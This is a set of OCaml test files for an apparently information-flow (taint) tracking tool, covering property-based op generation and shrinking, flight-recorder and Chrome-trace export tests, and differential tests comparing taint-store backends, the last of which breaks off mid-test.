  match Rng.int rng 7 with
  | 0 ->
      (* one exact block *)
      let b = Rng.int rng blocks in
      Range.make (b * block) (((b + 1) * block) - 1)
  | 1 ->
      (* two adjacent blocks *)
      let b = Rng.int rng (blocks - 1) in
      Range.make (b * block) (((b + 2) * block) - 1)
  | 2 ->
      (* straddles a block boundary *)
      let b = Rng.int rng (blocks - 1) in
      let lo = (b * block) + Rng.int_in rng 1 (block - 1) in
      Range.make lo (min (addr_space - 1) (lo + block - 1))
  | 3 ->
      (* ends exactly one byte before a block start: adjacent (hi+1)
         to an exact-block range, so closed-interval coalescing fires *)
      let b = Rng.int_in rng 1 (blocks - 1) in
      let len = Rng.int_in rng 1 block in
      Range.make ((b * block) - len) ((b * block) - 1)
  | 4 ->
      (* nested strictly inside a block *)
      let b = Rng.int rng blocks in
      let lo = (b * block) + 1 + Rng.int rng (block - 3) in
      let hi = min (((b + 1) * block) - 2) (lo + Rng.int rng (block - 2)) in
      Range.make lo (max lo hi)
  | 5 ->
      (* single byte *)
      Range.byte (Rng.int rng addr_space)
  | _ ->
      (* arbitrary small range *)
      let lo = Rng.int rng addr_space in
      Range.make lo (min (addr_space - 1) (lo + Rng.int rng 40))

let gen_op rng =
  match Rng.int rng 5 with
  | 0 | 1 -> Add (gen_range rng)
  | 2 -> Remove (gen_range rng)
  | _ -> Overlaps (gen_range rng)

(* Explicit recursion, head first: List.init's evaluation order is
   unspecified, which would make the sequence depend on the stdlib's
   choice rather than on the seed alone. *)
let gen_ops rng n =
  let rec go k acc = if k = 0 then List.rev acc else go (k - 1) (gen_op rng :: acc) in
  go n []

(* --- shrinking ---------------------------------------------------------- *)

(* Candidate smaller sequences: drop a chunk of half the length, then
   quarters, and so on down to single ops — standard list shrinking,
   greedy (first still-failing candidate wins each round). *)
let shrink_candidates ops =
  let arr = Array.of_list ops in
  let n = Array.length arr in
  let drop start len =
    List.filteri (fun i _ -> i < start || i >= start + len) ops
  in
  let rec chunks size acc =
    if size = 0 then List.rev acc
    else begin
      let rec starts s acc =
        if s + size > n then acc else starts (s + size) (drop s size :: acc)
      in
      chunks (size / 2) (starts 0 acc)
    end
  in
  if n = 0 then [] else chunks (n / 2) []

let minimize prop ops =
  let rec go ops =
    match List.find_opt (fun c -> Result.is_error (prop c)) (shrink_candidates ops) with
    | Some smaller -> go smaller
    | None -> ops
  in
  go ops

(* --- runner ------------------------------------------------------------- *)

let default_seed = 0xD1F7

let seed () =
  match Sys.getenv_opt "PIFT_PROP_SEED" with
  | Some s -> (
      match int_of_string_opt s with
      | Some v -> v
      | None -> Alcotest.failf "PIFT_PROP_SEED=%S is not an integer" s)
  | None -> default_seed

(* [check_gen ~name ~count ~gen ~shrink ~to_string prop] is the generic
   core: [count] cases drawn by [gen] from a per-case split of the
   seeded rng, failures minimized through [shrink] (a function from a
   counterexample to smaller candidates; return [[]] to skip
   shrinking).  [check] below specialises it to taint-store op
   sequences; the provenance graph-builder properties reuse it over
   synthetic recordings. *)
let check_gen ~name ?(count = 100) ~gen ~shrink ~to_string prop =
  let seed = seed () in
  let rng = Rng.create seed in
  let rec minimize x =
    match
      List.find_opt (fun c -> Result.is_error (prop c)) (shrink x)
    with
    | Some smaller -> minimize smaller
    | None -> x
  in
  for case = 1 to count do
    (* One split per case: a failure in case k replays without
       re-running cases 1..k-1's generators. *)
    let case_rng = Rng.split rng in
    let x = gen case_rng in
    match prop x with
    | Ok () -> ()
    | Error msg ->
        let minimal = minimize x in
        let detail =
          match prop minimal with Error m -> m | Ok () -> msg
        in
        Alcotest.failf
          "%s: case %d/%d failed — replay with PIFT_PROP_SEED=%d@.%s@.minimal \
           counterexample: %s"
          name case count seed detail (to_string minimal)
  done

(* [check ~name ~count ~len prop] runs [prop] on [count] fresh op
   sequences of [len] ops each.  On failure the sequence is shrunk and
   the test fails with the minimal counterexample plus the seed needed
   to replay the whole run. *)
let check ~name ?(count = 100) ?(len = 100) prop =
  check_gen ~name ~count
    ~gen:(fun rng -> gen_ops rng len)
    ~shrink:shrink_candidates
    ~to_string:(fun ops ->
      Printf.sprintf "(%d ops): %s" (List.length ops) (ops_to_string ops))
    prop
