(* Tests for the flight-recorder layer: ring wrap-around semantics,
   timeline merging, Chrome trace export/validation round-trips, report
   format sniffing, and the domain-safety of the Span collector. *)

module Flight = Pift_obs.Flight
module Timeline = Pift_obs.Timeline
module Chrome = Pift_obs.Chrome
module Json = Pift_obs.Json
module Sink = Pift_obs.Sink
module Span = Pift_obs.Span

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

(* --- ring buffer -------------------------------------------------------- *)

let test_ring_basic () =
  let r = Flight.create ~capacity:8 () in
  checki "empty length" 0 (Flight.length r);
  Flight.begin_ r "a";
  Flight.sample r "c" 3.;
  Flight.end_ r "a";
  checki "length" 3 (Flight.length r);
  checki "written" 3 (Flight.written r);
  checki "dropped" 0 (Flight.dropped r);
  (match Flight.events r with
  | [ e1; e2; e3 ] ->
      checkb "kinds" true
        (e1.Flight.kind = Flight.Begin
        && e2.Flight.kind = Flight.Sample
        && e3.Flight.kind = Flight.End);
      checks "name" "c" e2.Flight.name;
      Alcotest.(check (float 1e-9)) "value" 3. e2.Flight.value;
      checkb "ts monotonic" true
        (e1.Flight.ts <= e2.Flight.ts && e2.Flight.ts <= e3.Flight.ts);
      checkb "ts non-negative" true (e1.Flight.ts >= 0.)
  | l -> Alcotest.failf "expected 3 events, got %d" (List.length l));
  Flight.clear r;
  checki "cleared" 0 (Flight.length r)

let test_ring_wrap_keeps_newest () =
  let r = Flight.create ~capacity:4 () in
  for i = 1 to 10 do
    Flight.sample r "n" (float_of_int i)
  done;
  checki "length capped" 4 (Flight.length r);
  checki "written counts all" 10 (Flight.written r);
  checki "dropped = written - capacity" 6 (Flight.dropped r);
  let values = List.map (fun e -> e.Flight.value) (Flight.events r) in
  checkb "newest 4 survive, oldest first" true (values = [ 7.; 8.; 9.; 10. ])

let test_ring_capacity_zero_noop () =
  let r = Flight.create ~capacity:0 () in
  Flight.begin_ r "a";
  Flight.end_ r "a";
  Flight.instant r "i";
  Flight.sample r "c" 1.;
  checki "capacity" 0 (Flight.capacity r);
  checki "length" 0 (Flight.length r);
  checki "written" 0 (Flight.written r);
  checkb "no events" true (Flight.events r = [])

(* --- timeline merge ----------------------------------------------------- *)

let test_timeline_merge_preserves_order () =
  let a = Flight.create ~capacity:8 () in
  let b = Flight.create ~capacity:8 () in
  (* interleave writes across rings; each track must keep its own order *)
  Flight.instant a "a1";
  Flight.instant b "b1";
  Flight.instant a "a2";
  Flight.instant b "b2";
  Flight.instant a "a3";
  let tl = Timeline.of_rings [| a; b |] in
  checki "event count" 5 (Timeline.event_count tl);
  (match Timeline.tracks tl with
  | [ ta; tb ] ->
      checki "tid 0" 0 ta.Timeline.tid;
      checki "tid 1" 1 tb.Timeline.tid;
      checkb "track a order" true
        (List.map (fun e -> e.Flight.name) ta.Timeline.events
        = [ "a1"; "a2"; "a3" ]);
      checkb "track b order" true
        (List.map (fun e -> e.Flight.name) tb.Timeline.events
        = [ "b1"; "b2" ])
  | l -> Alcotest.failf "expected 2 tracks, got %d" (List.length l));
  checkb "bounds ordered" true
    (match Timeline.span_bounds tl with
    | Some (lo, hi) -> lo <= hi
    | None -> false)

(* --- Chrome export round-trip ------------------------------------------- *)

let sample_timeline () =
  let a = Flight.create ~capacity:64 () in
  let b = Flight.create ~capacity:64 () in
  Flight.begin_ a "cell(1,1)";
  Flight.sample a "bytes" 10.;
  Flight.instant a "source";
  Flight.end_ a "cell(1,1)";
  Flight.begin_ b "cell(1,2)";
  Flight.begin_ b "inner";
  Flight.end_ b "inner";
  Flight.end_ b "cell(1,2)";
  Timeline.of_rings [| a; b |]

let test_chrome_round_trip () =
  let j = Chrome.json ~run:"test" (sample_timeline ()) in
  (* serialized text parses back to the same structure *)
  let reparsed = Json.of_string (Json.to_string j) in
  match Chrome.validate reparsed with
  | Error msg -> Alcotest.failf "round trip invalid: %s" msg
  | Ok c ->
      checki "tracks" 2 c.Chrome.c_tracks;
      checki "spans" 3 c.Chrome.c_spans;
      checki "instants" 1 c.Chrome.c_instants;
      checki "samples" 1 c.Chrome.c_samples;
      checkb "counter names" true (c.Chrome.c_counter_names = [ "bytes" ])

let test_chrome_repairs_wrap_imbalance () =
  (* A wrapped ring can surface an End whose Begin was overwritten and a
     Begin whose End never arrived; the exporter must balance both. *)
  let r = Flight.create ~capacity:64 () in
  Flight.end_ r "lost-begin";
  Flight.begin_ r "never-closed";
  Flight.instant r "i";
  let j = Chrome.json (Timeline.of_rings [| r |]) in
  match Chrome.validate j with
  | Error msg -> Alcotest.failf "repaired trace invalid: %s" msg
  | Ok c ->
      checki "one span (orphan E dropped, open B closed)" 1 c.Chrome.c_spans;
      checki "instant kept" 1 c.Chrome.c_instants

let test_chrome_validate_rejects () =
  let reject what text =
    match Chrome.validate (Json.of_string text) with
    | Ok _ -> Alcotest.failf "%s: expected rejection" what
    | Error _ -> ()
  in
  reject "missing traceEvents" {|{"foo": 1}|};
  reject "unbalanced E"
    {|{"traceEvents":[{"name":"x","ph":"E","pid":1,"tid":0,"ts":1.0}]}|};
  reject "unclosed B"
    {|{"traceEvents":[{"name":"x","ph":"B","pid":1,"tid":0,"ts":1.0}]}|};
  reject "negative ts"
    {|{"traceEvents":[{"name":"x","ph":"i","pid":1,"tid":0,"ts":-1.0}]}|};
  reject "backwards ts"
    {|{"traceEvents":[
        {"name":"x","ph":"i","pid":1,"tid":0,"ts":5.0},
        {"name":"y","ph":"i","pid":1,"tid":0,"ts":4.0}]}|};
  reject "unknown phase"
    {|{"traceEvents":[{"name":"x","ph":"Z","pid":1,"tid":0,"ts":1.0}]}|}

let test_chrome_summarize_smoke () =
  let j = Chrome.json ~run:"test" (sample_timeline ()) in
  let buf = Buffer.create 256 in
  let ppf = Format.formatter_of_buffer buf in
  Chrome.summarize j ppf ();
  let out = Buffer.contents buf in
  let contains needle =
    let n = String.length needle and h = String.length out in
    let rec go i = i + n <= h && (String.sub out i n = needle || go (i + 1)) in
    go 0
  in
  checkb "has track count" true (contains "worker tracks: 2");
  checkb "has phase table" true (contains "cell");
  checkb "has utilization" true (contains "utilization")

(* --- report format sniffing --------------------------------------------- *)

let test_classify_forward_compat () =
  let classify text = Sink.classify (Json.of_string text) in
  checkb "metrics snapshot" true
    (classify {|{"run":"x","metrics":[],"spans":[]}|} = Sink.Metrics_snapshot);
  (* unknown top-level keys must not change the classification *)
  checkb "metrics with extra keys" true
    (classify {|{"metrics":[],"future_field":{"a":1},"v":2}|}
    = Sink.Metrics_snapshot);
  checkb "trace" true (classify {|{"traceEvents":[]}|} = Sink.Trace);
  checkb "trace with extra keys" true
    (classify {|{"traceEvents":[],"displayTimeUnit":"ms","newer":true}|}
    = Sink.Trace);
  (match classify {|{"wholly":1,"foreign":2}|} with
  | Sink.Unknown keys -> checkb "keys reported" true (keys = [ "wholly"; "foreign" ])
  | _ -> Alcotest.fail "expected Unknown");
  checkb "non-object" true (classify {|[1,2]|} = Sink.Unknown []);
  (* extra top-level keys also must not break the metrics reader itself *)
  let samples =
    Sink.samples_of_json
      (Json.of_string {|{"metrics":[],"future_field":true}|})
  in
  checkb "reader tolerates extras" true (samples = [])

(* --- tracing must not perturb results ------------------------------------ *)

let test_sweep_identical_with_tracing () =
  let module Accuracy = Pift_eval.Accuracy in
  let apps =
    List.filteri (fun i _ -> i < 6) Pift_workloads.Droidbench.subset48
  in
  let nis = [ 1; 13 ] and nts = [ 1; 3 ] in
  let plain = Accuracy.sweep ~nis ~nts ~jobs:2 apps in
  let rings = Array.init 2 (fun _ -> Flight.create ()) in
  let traced = Accuracy.sweep ~nis ~nts ~rings ~jobs:2 apps in
  checkb "cells identical with tracing on" true
    (plain.Accuracy.cells = traced.Accuracy.cells);
  checkb "rings actually recorded" true
    (Array.exists (fun r -> Flight.written r > 0) rings);
  (* and the recorded rings export to a valid trace *)
  match Chrome.validate (Chrome.json (Timeline.of_rings rings)) with
  | Ok c -> checkb "has cell spans" true (c.Chrome.c_spans > 0)
  | Error msg -> Alcotest.failf "sweep trace invalid: %s" msg

(* --- span collector domain-safety ---------------------------------------- *)

(* Hammer Span.with_ from several domains at once: each domain must end
   up with its own consistent tree (the old process-global collector
   interleaved spans across domains and corrupted the shared stack). *)
let test_span_domain_safety () =
  let domains = 4 and rounds = 200 in
  let worker d () =
    Span.reset ();
    for i = 0 to rounds - 1 do
      Span.with_ ~name:(Printf.sprintf "outer%d" d) (fun () ->
          Span.with_ ~name:"inner" (fun () -> Sys.opaque_identity (ignore i)))
    done;
    let roots = Span.roots () in
    let ok = ref (List.length roots = rounds) in
    List.iter
      (fun root ->
        if Span.name root <> Printf.sprintf "outer%d" d then ok := false;
        match Span.children root with
        | [ child ] -> if Span.name child <> "inner" then ok := false
        | _ -> ok := false)
      roots;
    !ok
  in
  let spawned =
    List.init (domains - 1) (fun d -> Domain.spawn (worker (d + 1)))
  in
  let mine = worker 0 () in
  let others = List.map Domain.join spawned in
  checkb "caller's tree consistent" true mine;
  List.iteri
    (fun d ok -> checkb (Printf.sprintf "domain %d tree consistent" (d + 1)) true ok)
    others

let () =
  Alcotest.run "pift_flight"
    [
      ( "ring",
        [
          Alcotest.test_case "basic recording" `Quick test_ring_basic;
          Alcotest.test_case "wrap-around keeps newest" `Quick
            test_ring_wrap_keeps_newest;
          Alcotest.test_case "capacity 0 is a no-op" `Quick
            test_ring_capacity_zero_noop;
        ] );
      ( "timeline",
        [
          Alcotest.test_case "merge preserves per-track order" `Quick
            test_timeline_merge_preserves_order;
        ] );
      ( "chrome",
        [
          Alcotest.test_case "export/validate round trip" `Quick
            test_chrome_round_trip;
          Alcotest.test_case "wrap imbalance repaired" `Quick
            test_chrome_repairs_wrap_imbalance;
          Alcotest.test_case "validator rejects bad traces" `Quick
            test_chrome_validate_rejects;
          Alcotest.test_case "summarize smoke" `Quick
            test_chrome_summarize_smoke;
        ] );
      ( "report sniffing",
        [
          Alcotest.test_case "forward compatible" `Quick
            test_classify_forward_compat;
        ] );
      ( "sweep",
        [
          Alcotest.test_case "results identical with tracing on" `Quick
            test_sweep_identical_with_tracing;
        ] );
      ( "span",
        [
          Alcotest.test_case "domain safety under hammering" `Quick
            test_span_domain_safety;
        ] );
    ]
