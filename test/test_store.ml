(* Differential property suite for the pluggable taint-store backends.

   The three backends — Functional (persistent Range_set), Flat
   (imperative sorted interval array) and Bytemap (bit-per-byte oracle)
   — must be observationally identical.  Every case drives one random
   adversarial op sequence (see prop.ml) through all three and compares
   the full observable state after every single op; a divergence is
   shrunk to a minimal op sequence and printed with the replay seed.

   50 cases x 250 ops = 12,500 ops per run, well past the 10k floor,
   and the end-to-end test re-renders a DroidBench accuracy sweep under
   functional and flat and byte-compares the output. *)

module Range = Pift_util.Range
module Store_backend = Pift_core.Store_backend
module Store = Pift_core.Store

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)

let ranges_to_string rs =
  "[" ^ String.concat "; " (List.map Range.to_string rs) ^ "]"

let state_to_string (s : Store_backend.set) =
  Printf.sprintf "bytes=%d count=%d ranges=%s"
    (s.Store_backend.s_bytes ())
    (s.Store_backend.s_count ())
    (ranges_to_string (s.Store_backend.s_ranges ()))

(* --- the differential property ----------------------------------------- *)

let apply (s : Store_backend.set) = function
  | Prop.Add r ->
      s.Store_backend.s_add r;
      None
  | Prop.Remove r ->
      s.Store_backend.s_remove r;
      None
  | Prop.Overlaps r -> Some (s.Store_backend.s_overlaps r)

(* Fold the sequence through every backend at once; after each op the
   oracle (Bytemap, trivially correct byte-level semantics) and every
   fast backend must report the same overlap verdict, tainted-byte
   total, range count, and sorted canonical range list. *)
let differential ops =
  let sets =
    List.map
      (fun b -> (Store_backend.backend_to_string b, Store_backend.make b))
      Store_backend.all_backends
  in
  let oracle_name, oracle = List.hd (List.rev sets) in
  assert (String.equal oracle_name "bytemap");
  let exception Diverged of string in
  try
    List.iteri
      (fun i op ->
        let verdicts = List.map (fun (name, s) -> (name, apply s op)) sets in
        let _, expected = List.hd (List.rev verdicts) in
        List.iter
          (fun (name, v) ->
            if v <> expected then
              raise
                (Diverged
                   (Printf.sprintf
                      "op %d (%s): %s answered %s, oracle %s answered %s" i
                      (Prop.op_to_string op) name
                      (match v with
                      | Some b -> string_of_bool b
                      | None -> "-")
                      oracle_name
                      (match expected with
                      | Some b -> string_of_bool b
                      | None -> "-"))))
          verdicts;
        let want = state_to_string oracle in
        List.iter
          (fun (name, s) ->
            let got = state_to_string s in
            if not (String.equal got want) then
              raise
                (Diverged
                   (Printf.sprintf
                      "op %d (%s): %s state diverged@.  %s: %s@.  %s: %s" i
                      (Prop.op_to_string op) name name got oracle_name want)))
          sets)
      ops;
    Ok ()
  with Diverged msg -> Error msg

let test_differential () =
  Prop.check ~name:"store backends agree" ~count:50 ~len:250 differential

(* A second pass at a coarser granularity: longer sequences, fewer
   cases, still deterministic from the same seed. *)
let test_differential_long () =
  Prop.check ~name:"store backends agree (long)" ~count:10 ~len:1000
    differential

(* --- closed-interval (hi inclusive) regression ------------------------- *)

(* [hi] is the last tainted byte.  Two ranges meeting exactly at hi+1
   must coalesce into one canonical range; a single untainted byte
   between them must keep them separate.  A half-open drift in any
   backend flips one of these. *)
let test_closed_interval_adjacency () =
  List.iter
    (fun backend ->
      let name s = Store_backend.backend_to_string backend ^ ": " ^ s in
      let set = Store_backend.make backend in
      set.Store_backend.s_add (Range.make 0 15);
      set.Store_backend.s_add (Range.make 16 31);
      (* meets at hi + 1 *)
      checki (name "adjacent adds coalesce") 1 (set.Store_backend.s_count ());
      checki (name "coalesced bytes") 32 (set.Store_backend.s_bytes ());
      checkb (name "single canonical range") true
        (set.Store_backend.s_ranges () = [ Range.make 0 31 ]);
      set.Store_backend.s_add (Range.make 33 40);
      (* byte 32 stays clean: no coalesce across the gap *)
      checki (name "one-byte gap keeps ranges apart") 2
        (set.Store_backend.s_count ());
      checkb (name "gap byte clean") false
        (set.Store_backend.s_overlaps (Range.byte 32));
      checkb (name "last byte tainted") true
        (set.Store_backend.s_overlaps (Range.byte 40));
      checkb (name "past-the-end byte clean") false
        (set.Store_backend.s_overlaps (Range.byte 41));
      set.Store_backend.s_remove (Range.make 10 20);
      checkb (name "middle cut leaves closed stubs") true
        (set.Store_backend.s_ranges ()
        = [ Range.make 0 9; Range.make 21 31; Range.make 33 40 ]))
    Store_backend.all_backends

(* --- multi-process Store.create ---------------------------------------- *)

let test_store_per_pid_isolation () =
  List.iter
    (fun backend ->
      let name s = Store.backend_to_string backend ^ ": " ^ s in
      let store = Store.create ~backend () in
      store.Store.add ~pid:1 (Range.make 0 15);
      store.Store.add ~pid:2 (Range.make 8 23);
      checkb (name "pid 1 sees its range") true
        (store.Store.overlaps ~pid:1 (Range.make 12 30));
      checkb (name "pid 1 blind past its range") false
        (store.Store.overlaps ~pid:1 (Range.make 16 30));
      checkb (name "pid 2 blind below its range") false
        (store.Store.overlaps ~pid:2 (Range.make 0 7));
      checki (name "bytes sum across pids") 32 (store.Store.tainted_bytes ());
      checki (name "counts sum across pids") 2 (store.Store.range_count ());
      store.Store.remove ~pid:1 (Range.make 0 15);
      checki (name "remove only touches its pid") 16
        (store.Store.tainted_bytes ());
      checkb (name "pid 2 unaffected") true
        (store.Store.overlaps ~pid:2 (Range.byte 8)))
    Store.all_backends

(* --- end-to-end: DroidBench sweep, byte-identical across backends ------- *)

let sweep_output backend =
  let sweep =
    Pift_eval.Accuracy.sweep ~backend ~nis:[ 1; 5; 9; 13 ] ~nts:[ 1; 3 ]
      Pift_workloads.Droidbench.subset48
  in
  (sweep, Format.asprintf "%t" (fun ppf -> Pift_eval.Accuracy.render sweep ppf ()))

let test_sweep_byte_identical () =
  let functional, functional_out = sweep_output Store.Functional in
  let flat, flat_out = sweep_output Store.Flat in
  checkb "confusion cells identical" true
    (functional.Pift_eval.Accuracy.cells = flat.Pift_eval.Accuracy.cells);
  Alcotest.(check string) "rendered sweep byte-identical" functional_out
    flat_out

let () =
  Alcotest.run "pift_store"
    [
      ( "differential",
        [
          Alcotest.test_case "functional/flat/bytemap agree (12.5k ops)"
            `Quick test_differential;
          Alcotest.test_case "long sequences (10k ops)" `Quick
            test_differential_long;
        ] );
      ( "conventions",
        [
          Alcotest.test_case "closed intervals: hi+1 adjacency" `Quick
            test_closed_interval_adjacency;
          Alcotest.test_case "per-pid isolation" `Quick
            test_store_per_pid_isolation;
        ] );
      ( "end-to-end",
        [
          Alcotest.test_case "DroidBench sweep byte-identical" `Quick
            test_sweep_byte_identical;
        ] );
    ]
