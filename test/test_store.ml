(* Differential property suite for the pluggable taint-store backends.

   The four backends — Functional (persistent Range_set), Flat
   (imperative sorted interval array), Hybrid (flat intervals with
   promoted dense bit-pages) and Bytemap (bit-per-byte oracle) — must
   be observationally identical.  Every case drives one random
   adversarial op sequence (see prop.ml) through all four and compares
   the full observable state after every single op; a divergence is
   shrunk to a minimal op sequence and printed with the replay seed.

   50 cases x 250 ops plus 10 x 1000 = 22,500 ops per run, well past
   the 10k floor, and the end-to-end test re-renders a DroidBench
   accuracy sweep under every production backend and byte-compares the
   output against functional's. *)

module Range = Pift_util.Range
module Store_backend = Pift_core.Store_backend
module Store = Pift_core.Store

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)

let ranges_to_string rs =
  "[" ^ String.concat "; " (List.map Range.to_string rs) ^ "]"

let state_to_string (s : Store_backend.set) =
  Printf.sprintf "bytes=%d count=%d ranges=%s"
    (s.Store_backend.s_bytes ())
    (s.Store_backend.s_count ())
    (ranges_to_string (s.Store_backend.s_ranges ()))

(* --- the differential property ----------------------------------------- *)

let apply (s : Store_backend.set) = function
  | Prop.Add r ->
      s.Store_backend.s_add r;
      None
  | Prop.Remove r ->
      s.Store_backend.s_remove r;
      None
  | Prop.Overlaps r -> Some (s.Store_backend.s_overlaps r)

(* Fold the sequence through every backend at once; after each op the
   oracle (Bytemap, trivially correct byte-level semantics) and every
   fast backend must report the same overlap verdict, tainted-byte
   total, range count, and sorted canonical range list. *)
let differential ops =
  let sets =
    List.map
      (fun b -> (Store_backend.backend_to_string b, Store_backend.make b))
      Store_backend.all_backends
  in
  let oracle_name, oracle = List.hd (List.rev sets) in
  assert (String.equal oracle_name "bytemap");
  let exception Diverged of string in
  try
    List.iteri
      (fun i op ->
        let verdicts = List.map (fun (name, s) -> (name, apply s op)) sets in
        let _, expected = List.hd (List.rev verdicts) in
        List.iter
          (fun (name, v) ->
            if v <> expected then
              raise
                (Diverged
                   (Printf.sprintf
                      "op %d (%s): %s answered %s, oracle %s answered %s" i
                      (Prop.op_to_string op) name
                      (match v with
                      | Some b -> string_of_bool b
                      | None -> "-")
                      oracle_name
                      (match expected with
                      | Some b -> string_of_bool b
                      | None -> "-"))))
          verdicts;
        let want = state_to_string oracle in
        List.iter
          (fun (name, s) ->
            let got = state_to_string s in
            if not (String.equal got want) then
              raise
                (Diverged
                   (Printf.sprintf
                      "op %d (%s): %s state diverged@.  %s: %s@.  %s: %s" i
                      (Prop.op_to_string op) name name got oracle_name want)))
          sets)
      ops;
    Ok ()
  with Diverged msg -> Error msg

let test_differential () =
  Prop.check ~name:"store backends agree" ~count:50 ~len:250 differential

(* A second pass at a coarser granularity: longer sequences, fewer
   cases, still deterministic from the same seed. *)
let test_differential_long () =
  Prop.check ~name:"store backends agree (long)" ~count:10 ~len:1000
    differential

(* --- closed-interval (hi inclusive) regression ------------------------- *)

(* [hi] is the last tainted byte.  Two ranges meeting exactly at hi+1
   must coalesce into one canonical range; a single untainted byte
   between them must keep them separate.  A half-open drift in any
   backend flips one of these. *)
let test_closed_interval_adjacency () =
  List.iter
    (fun backend ->
      let name s = Store_backend.backend_to_string backend ^ ": " ^ s in
      let set = Store_backend.make backend in
      set.Store_backend.s_add (Range.make 0 15);
      set.Store_backend.s_add (Range.make 16 31);
      (* meets at hi + 1 *)
      checki (name "adjacent adds coalesce") 1 (set.Store_backend.s_count ());
      checki (name "coalesced bytes") 32 (set.Store_backend.s_bytes ());
      checkb (name "single canonical range") true
        (set.Store_backend.s_ranges () = [ Range.make 0 31 ]);
      set.Store_backend.s_add (Range.make 33 40);
      (* byte 32 stays clean: no coalesce across the gap *)
      checki (name "one-byte gap keeps ranges apart") 2
        (set.Store_backend.s_count ());
      checkb (name "gap byte clean") false
        (set.Store_backend.s_overlaps (Range.byte 32));
      checkb (name "last byte tainted") true
        (set.Store_backend.s_overlaps (Range.byte 40));
      checkb (name "past-the-end byte clean") false
        (set.Store_backend.s_overlaps (Range.byte 41));
      set.Store_backend.s_remove (Range.make 10 20);
      checkb (name "middle cut leaves closed stubs") true
        (set.Store_backend.s_ranges ()
        = [ Range.make 0 9; Range.make 21 31; Range.make 33 40 ]))
    Store_backend.all_backends

(* --- multi-process Store.create ---------------------------------------- *)

let test_store_per_pid_isolation () =
  List.iter
    (fun backend ->
      let name s = Store.backend_to_string backend ^ ": " ^ s in
      let store = Store.create ~backend () in
      store.Store.add ~pid:1 (Range.make 0 15);
      store.Store.add ~pid:2 (Range.make 8 23);
      checkb (name "pid 1 sees its range") true
        (store.Store.overlaps ~pid:1 (Range.make 12 30));
      checkb (name "pid 1 blind past its range") false
        (store.Store.overlaps ~pid:1 (Range.make 16 30));
      checkb (name "pid 2 blind below its range") false
        (store.Store.overlaps ~pid:2 (Range.make 0 7));
      checki (name "bytes sum across pids") 32 (store.Store.tainted_bytes ());
      checki (name "counts sum across pids") 2 (store.Store.range_count ());
      store.Store.remove ~pid:1 (Range.make 0 15);
      checki (name "remove only touches its pid") 16
        (store.Store.tainted_bytes ());
      checkb (name "pid 2 unaffected") true
        (store.Store.overlaps ~pid:2 (Range.byte 8)))
    Store.all_backends

(* Read paths must be pure: querying a PID the store has never seen
   must not materialise a backend set for it (the old create allocated
   one on every overlaps/ranges call, growing the table and — with
   fold-based totals — the cost of every later metrics read). *)
let test_store_read_purity () =
  List.iter
    (fun backend ->
      let name s = Store.backend_to_string backend ^ ": " ^ s in
      let store = Store.create ~backend () in
      store.Store.add ~pid:1 (Range.make 0 7);
      checkb (name "fresh pid sees nothing") false
        (store.Store.overlaps ~pid:99 (Range.make 0 1000));
      checkb (name "fresh pid has no ranges") true
        (store.Store.ranges ~pid:99 = []);
      checki (name "range_count unchanged by reads") 1
        (store.Store.range_count ());
      checki (name "tainted_bytes unchanged by reads") 8
        (store.Store.tainted_bytes ());
      let fresh = Store.create ~backend () in
      ignore (fresh.Store.overlaps ~pid:7 (Range.byte 0));
      ignore (fresh.Store.ranges ~pid:7);
      ignore (fresh.Store.overlaps ~pid:8 (Range.byte 0));
      checki (name "fresh store still empty after queries") 0
        (fresh.Store.range_count ()))
    Store.all_backends

(* The store-wide totals are tracked incrementally (per-op deltas), not
   re-summed over every PID; they must stay equal to the from-scratch
   sums through coalescing adds, splitting removes, and no-op removes
   on untouched PIDs. *)
let test_store_incremental_totals () =
  let pids = [ 1; 2; 3 ] in
  List.iter
    (fun backend ->
      let name s = Store.backend_to_string backend ^ ": " ^ s in
      let store = Store.create ~backend () in
      let recount () =
        List.fold_left
          (fun acc pid -> acc + List.length (store.Store.ranges ~pid))
          0 pids
      in
      let rebytes () =
        List.fold_left
          (fun acc pid ->
            List.fold_left
              (fun a r -> a + Range.length r)
              acc
              (store.Store.ranges ~pid))
          0 pids
      in
      let steps =
        [
          ("add", 1, Range.make 0 15, `Add);
          ("overlapping add coalesces", 1, Range.make 8 23, `Add);
          ("second pid", 2, Range.make 100 131, `Add);
          ("adjacent add coalesces", 1, Range.make 24 31, `Add);
          ("splitting remove", 1, Range.make 10 20, `Remove);
          ("no-op remove on fresh pid", 3, Range.make 0 7, `Remove);
          ("single byte", 3, Range.byte 5, `Add);
          ("overshooting remove clears", 2, Range.make 90 200, `Remove);
          ("full clear", 1, Range.make 0 31, `Remove);
        ]
      in
      List.iter
        (fun (label, pid, r, op) ->
          (match op with
          | `Add -> store.Store.add ~pid r
          | `Remove -> store.Store.remove ~pid r);
          checki
            (name (label ^ ": count matches recount"))
            (recount ())
            (store.Store.range_count ());
          checki
            (name (label ^ ": bytes match recount"))
            (rebytes ())
            (store.Store.tainted_bytes ()))
        steps)
    Store.all_backends

(* --- hybrid promotion / demotion ---------------------------------------- *)

module Store_hybrid = Pift_core.Store_hybrid

(* Crossing half-page occupancy turns a page dense (bit-per-byte);
   draining below an eighth turns it sparse again.  The canonical
   observable state must be unchanged by either transition. *)
let test_hybrid_promotion_demotion () =
  let h = Store_hybrid.create () in
  let page = Store_hybrid.page_size h in
  checki "no dense pages on create" 0 (Store_hybrid.dense_pages h);
  Store_hybrid.add h (Range.of_len 0 (page / 2));
  checki "dense after crossing half-page" 1 (Store_hybrid.dense_pages h);
  checkb "promotion counted" true (Store_hybrid.promotions h >= 1);
  checki "bytes preserved across promotion" (page / 2)
    (Store_hybrid.total_bytes h);
  checki "one canonical range" 1 (Store_hybrid.cardinal h);
  checkb "ranges canonical" true
    (Store_hybrid.ranges h = [ Range.of_len 0 (page / 2) ]);
  checkb "overlap inside dense page" true
    (Store_hybrid.mem_overlap h (Range.byte 10));
  checkb "no overlap past the taint" false
    (Store_hybrid.mem_overlap h (Range.byte (page / 2)));
  Store_hybrid.remove h (Range.of_len 8 ((page / 2) - 8));
  checki "demoted on decay" 0 (Store_hybrid.dense_pages h);
  checkb "demotion counted" true (Store_hybrid.demotions h >= 1);
  checkb "leftover bytes survive demotion" true
    (Store_hybrid.ranges h = [ Range.of_len 0 8 ])

(* A dense page and a sparse run meeting exactly at a page boundary are
   one canonical range — the seam must not show up in cardinal or
   ranges. *)
let test_hybrid_page_seam () =
  let h = Store_hybrid.create () in
